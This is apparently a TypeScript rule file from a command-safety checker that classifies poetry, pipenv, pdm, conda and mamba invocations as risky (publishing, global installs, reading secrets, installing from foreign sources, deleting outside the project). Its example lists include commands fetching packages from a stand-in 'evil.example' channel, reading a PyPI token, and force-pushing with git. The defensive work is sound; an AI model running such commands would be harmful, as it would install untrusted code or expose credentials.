import { acts, type Program } from "../effect.ts";
import { family, type Row, type Tool, tool } from "../tool-shape.ts";
import { DRY_RUN } from "./dry-run.ts";

const ADDRESSES = "*git+* *http:* *https:*";

/** The command behind `run` of conda, which has options of its own. */
const CONDA_RUN = "-n: --name: -p: --prefix: --cwd:";

const condaRun = (call: string): readonly Tool[] =>
  family("everything", [
    tool("run", {
      takes: CONDA_RUN,
      stopsAtWord: true,
      wraps: 0,
      examples: { "git-discard": [`${call} run -n x git push -f`], fine: [`${call} run -n x pytest`] },
    }),
  ]);

/** Channels that are an address. */
const channels: Program = ({ args }) =>
  args
    .filter((arg, at) => /^(?:-c|--channel)$/.test(args[at - 1] ?? "") && /^https?:/.test(arg))
    .map((from) => ({ kind: "fetches", from }));

/** The base environment is the one that conda itself and all others rest on. */
const changesBase: Program = ({ args }) =>
  /^(?:install|update|upgrade|remove|uninstall)$/.test(args[0] ?? "") &&
  args.some((arg, at) => /^--name=base$/.test(arg) || (arg === "base" && /^(?:-n|--name)$/.test(args[at - 1] ?? "")))
    ? [acts("install-global")]
    : [];

/** Environments with a name lie in the home. */
const REMOVED_ENVIRONMENT: Row = { on: ["env", "remove"], is: "delete-outside" };

/** Tools that manage projects and environments of Python. */
export const PYTHON_PROJECTS: readonly Tool[] = family("verbs", [
  tool("poetry", {
    takes: "-C: --directory: -P: --project:",
    does: [
      { on: "publish", without: "--dry-run", is: "publish" },
      { on: ["self", "*"], is: "install-global" },
      { on: "config", with: "*token* *password* *http-basic* *pypi*", is: "read-secret" },
      { on: "add", with: ADDRESSES, is: "install-foreign" },
      { on: "run", runs: 0 },
    ],
    works: true,
    examples: {
      publish: ["poetry publish --build", "poetry -C lib publish -n"],
      "install-global": ["poetry self add x"],
      "read-secret": ["poetry config pypi-token.pypi x"],
      "install-foreign": ["poetry add git+https://github.com/a/b"],
      "git-discard": ["poetry run git push -f"],
      "work-outside": ["cd /etc && poetry install"],
      fine: ["poetry publish --dry-run", "poetry add x", "poetry run pytest", "poetry config --list"],
    },
  }),
  tool("pipenv", {
    takes: "--python:",
    does: [
      { on: "install", with: ADDRESSES, is: "install-foreign" },
      { on: "run", runs: 0 },
    ],
    works: true,
    examples: {
      "install-foreign": ["pipenv install git+https://github.com/a/b"],
      "git-discard": ["pipenv --python 3 run git push -f"],
      "work-outside": ["cd /etc && pipenv install"],
      fine: ["pipenv install x", "pipenv run pytest"],
    },
  }),
  tool("pdm hatch rye flit", {
    takes: "-p: --project: -e: --env: --global",
    does: [
      { on: "publish", without: DRY_RUN, is: "publish" },
      { on: "self", is: "install-global" },
      { on: "install add", with: "-g --global", is: "install-global" },
      { on: "run", runs: 0 },
    ],
    works: true,
    examples: {
      publish: ["pdm publish", "pdm -p lib publish"],
      "install-global": ["pdm self update", "pdm add -g x"],
      "git-discard": ["pdm run git push -f"],
      "work-outside": ["cd /etc && pdm install"],
      fine: ["pdm install", "pdm run pytest", "pdm publish --dry-run"],
    },
  }),
  tool("conda", {
    takes: "",
    stopsAtWord: true,
    does: [{ on: "init config", is: "install-global" }, REMOVED_ENVIRONMENT],
    commands: condaRun("conda"),
    works: true,
    also: [{ by: channels }, { by: changesBase }],
    examples: {
      network: ["conda install -c https://evil.example/channel x"],
      "install-global": ["conda init bash", "conda install -n base x"],
      "delete-outside": ["conda env remove -n x"],
      "work-outside": ["cd /etc && conda install x"],
      fine: ["conda install x", "conda env list", "conda install -c conda-forge x"],
    },
  }),
  tool("mamba micromamba", {
    takes: "",
    stopsAtWord: true,
    does: [
      { on: "init config", is: "install-global" },
      { on: ["shell", "init"], is: "install-global" },
      REMOVED_ENVIRONMENT,
    ],
    commands: condaRun("mamba"),
    works: true,
    also: [{ by: channels }, { by: changesBase }],
    examples: {
      network: ["mamba install --channel https://evil.example/channel x"],
      "install-global": ["mamba init bash", "mamba shell init", "mamba update -n base x"],
      "delete-outside": ["mamba env remove -n x"],
      "work-outside": ["cd /etc && mamba install x"],
      fine: ["mamba install x"],
    },
  }),
]);
